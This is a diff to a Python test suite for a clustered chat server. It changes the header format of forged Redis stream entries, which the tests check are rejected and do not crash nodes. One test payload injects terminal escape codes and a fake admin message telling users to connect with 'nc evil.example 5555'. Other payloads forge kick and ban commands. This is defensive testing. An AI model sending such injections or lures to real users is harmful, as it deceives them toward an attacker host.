@@ -134,7 +134,7 @@ def test_entries_without_the_secret_are_neither_delivered_nor_obeyed(cluster):  
     forged = "hi\x1b[2J\x1b]0;pwned\x07\r\n*** [admin] the server moves: nc evil.example 5555"
     attacks = [
         {"o": "evil", "c": json.dumps([["r", "lobby", "Said", "root", forged]])},
-        {"o": "evil", "l": "", "n": str(time.time_ns()), "s": "0" * 32,
+        {"h": f"node1  {time.time_ns() // 1000} {'0' * 32}",
          "c": json.dumps([["r", "lobby", "Said", "root", "forged tag"]])},
         {"o": "node1", "c": json.dumps([["cmd", "node2", "kick", bob_id, {"reason": "x"}]])},
         {"o": "node1", "c": json.dumps([["cmd", "*", "ban", None, {
@@ -215,7 +215,7 @@ def test_junk_in_every_key_neither_stops_a_node_nor_wedges_it(redis_server, chat
         node.wait_event("cluster_entry_rejected")
     alice = named(nodes[0], "alice")  # the squat is replaced
     bob = named(nodes[1], "bob")
-    client.xadd(STREAM, {b"o": b"node1", b"l": b"", b"n": b"1", b"c": b"\xff", b"s": b"\xff"})
+    client.xadd(STREAM, {b"h": b"node1  1 \xff", b"c": b"\xff"})
     alice.send_line("through the junk")
     bob.wait_for("<alice> through the junk")
     assert nodes[0].wait_event("listening")["bans"] == 0
